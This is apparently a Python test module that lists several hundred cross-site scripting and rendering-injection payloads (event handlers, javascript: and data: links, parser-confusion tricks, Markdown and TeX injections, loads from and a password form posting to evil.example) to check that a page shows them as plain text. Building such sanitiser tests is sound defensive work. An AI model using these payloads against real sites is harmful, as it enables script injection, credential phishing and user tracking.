"""Texts that try to run, to load or to dress up: what a page has to show as the text that it is.

Event handlers, address schemes, differences between parsers, names that shadow the page's own, Markdown and TeX.
`window.hit` tells that one has run.
"""

from __future__ import annotations

_WRITTEN = (
    "<script>window.hit=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.hit=1>",
    "<img src=https://evil.example/pixel.png>",
    "![pixel](https://evil.example/pixel.png)",
    "![x](javascript:window.hit=1)",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<iframe src=javascript:window.hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<a href=javascript:window.hit=1>press</a>",
    "[press](javascript:window.hit=1)",
    "[press](JaVaScRiPt&colon;window.hit=1)",
    "[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
    "[press](vbscript:window.hit)",
    '[press](https://good.example "\\" onmouseover=window.hit=1")',
    '<a href="https://good.example" onclick="window.hit=1" class="button button--main">Sign in</a>',
    "<form action=https://evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0">covered</div>',
    '<span class="skip" data-action="close-dialog" id="composer">mine</span>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<object data=javascript:window.hit=1></object>",
    "<template><script>window.hit=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    "```html\n<script>window.hit=1</script>\n```",
    "```<img/src=x/onerror=window.hit=1>\ncode\n```",
    "`<img src=x onerror=window.hit=1>`",
    "\\(\\href{javascript:window.hit=1}{x}\\)",
    "\\(\\htmlStyle{position:fixed}{x}\\) \\(\\includegraphics{https://evil.example/x.png}\\)",
    '$$\\unicode{x3c}script>window.hit=1</script>$$ \\("><img src=x onerror=window.hit=1>\\)',
    "\\(" + "\\def\\a{\\a\\a}\\a" + "\\)",
    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <script>window.hit=1</script> | 2 |",
    "- [ ] <b onclick=window.hit=1>item</b>",
    '<!--<img src="--><img src=x onerror=window.hit=1>">',
    "<x-y onpointerenter=window.hit=1 hx-get=/sign-out hx-trigger=load>z</x-y>",
)

_EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus autofocus", "onanimationstart", "ontransitionend"),
    *("onpointerenter", "onpointerrawupdate", "ontoggle", "onbeforetoggle", "onwheel", "onscroll", "onpaste"),
    *("oncontentvisibilityautostatechange", "onbeforematch hidden=until-found", "onsecuritypolicyviolation"),
)
_CARRIERS = ("img src=x", "svg", "a href=#x", "b", "input", "video src=x", "audio src=x", "marquee", "details open")
_SCHEMES = (
    *("javascript:window.hit=1", "JAVASCRIPT:window.hit=1", "java\tscript:window.hit=1", "java\nscript:window.hit=1"),
    *("\x01javascript:window.hit=1", " javascript:window.hit=1", "javascript&colon;window.hit=1"),
    *("&#106;avascript:window.hit=1", "&#x6A;avascript:window.hit=1", "javascript&#58;window.hit=1"),
    *("javascript://%0awindow.hit=1", "data:text/html,<script>parent.hit=1</script>", "vbscript:window.hit=1"),
    *(
        "blob:window.hit",
        "filesystem:window.hit",
        "feed:javascript:window.hit=1",
        "view-source:javascript:window.hit=1",
    ),
    *("//evil.example/%2e%2e", "\\\\evil.example\\x", "https:evil.example"),
)
_LINK_FORMS = ("[press]({})", "<{}>", "[press][r]\n\n[r]: {}", '<a href="{}">press</a>')
_PARSER_DIFFERENCES = (
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<script/src=data:,window.hit=1>",
    "<script>window.hit=1<!--",
    "<ScRiPt>window.hit=1</ScRiPt>",
    "<script\x0c>window.hit=1</script>",
    "<script\x85>window.hit=1</script>",
    '<img src="x` `<script>window.hit=1</script>"` `>',
    "<img src=x onerror\n=\nwindow.hit=1>",
    "<img/src/onerror=window.hit=1>",
    "<svg/onload=window.hit=1//",
    "<svg><a xlink:href=javascript:window.hit=1><text y=20>press</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=parent.hit=1>></use></svg>",
    "<svg><style><img src=x onerror=window.hit=1></style></svg>",
    "<math><annotation-xml encoding=text/html><script>window.hit=1</script></annotation-xml></math>",
    "<math href=javascript:window.hit=1>press</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<table><td background=javascript:window.hit=1>x</table>",
    "<noembed><img title='</noembed><img src onerror=window.hit=1>'></noembed>",
    "<textarea><img title='</textarea><img src onerror=window.hit=1>'></textarea>",
    "<title><img title='</title><img src onerror=window.hit=1>'></title>",
    "<xmp><p title='</xmp><img src onerror=window.hit=1>'></xmp>",
    "<!--><img src onerror=window.hit=1>-->",
    "<!--!><img src onerror=window.hit=1>-->",
    "<![CDATA[><img src onerror=window.hit=1>]]>",
    "<?xml-stylesheet href=javascript:window.hit=1?>",
    "<p/onclick=window.hit=1 contenteditable>type",
    "<isindex type=image src=x onerror=window.hit=1>",
    "<embed src=javascript:window.hit=1>",
    "<portal src=https://evil.example>",
    "<frameset onload=window.hit=1>",
    "<button form=composer formaction=javascript:window.hit=1>press</button>",
    "<input type=image formaction=javascript:window.hit=1>",
    "<label for=composer-text>press</label><output name=cookie>",
    "<img name=getElementById><form id=document>",
    "<a id=main href=javascript:window.hit=1>press</a>",
    "<slot name=x><div popover id=y>on top</div>",
    "<dialog open>Sign in again: <input type=password></dialog>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<audio src=https://evil.example/x.mp3 autoplay>",
    "<video poster=https://evil.example/x.png>",
    "<picture><source srcset=https://evil.example/x.png><img></picture>",
    "<div hx-get=/sign-out hx-trigger=load>z</div>",
    '<button data-action="again" data-copies="x">press</button>',
    "{{ 7 * 7 }} {% raw %} ${window.hit=1} <%= window.hit=1 %>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&amp;lt;img src=x onerror=window.hit=1&amp;gt;",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "\u202e<script>window.hit=1</script>\u202c",
    "＜script＞window.hit=1＜/script＞",
    "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "\\(\\url{javascript:window.hit=1}\\) \\(\\htmlData{action=again}{x}\\) \\(\\htmlClass{button}{x}\\)",
    "\\(\\text{<img src=x onerror=window.hit=1>}\\)",
    "\\[\\begin{array}{c}</annotation><script>window.hit=1</script>\\end{array}\\]",
    "![x](x 'y' onerror=window.hit=1)",
    "[a](<javascript:window.hit=1>)",
    "[x]: javascript:window.hit=1\n\n[x]",
    "    <script>window.hit=1</script>",
    "~~~'><img/src=x/onerror=window.hit=1>\ncode\n~~~",
)

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *_WRITTEN,
            *(
                f"<{_CARRIERS[n % len(_CARRIERS)]} {event}=window.hit=1>"
                if " " not in event
                else f"<{_CARRIERS[n % len(_CARRIERS)]} {event.split()[1]} {event.split()[0]}=window.hit=1>"
                for n, event in enumerate(_EVENTS)
            ),
            *(_LINK_FORMS[n % len(_LINK_FORMS)].format(scheme) for n, scheme in enumerate(_SCHEMES)),
            *(_LINK_FORMS[(n + 1) % len(_LINK_FORMS)].format(scheme) for n, scheme in enumerate(_SCHEMES)),
            *_PARSER_DIFFERENCES,
        )
    )
)
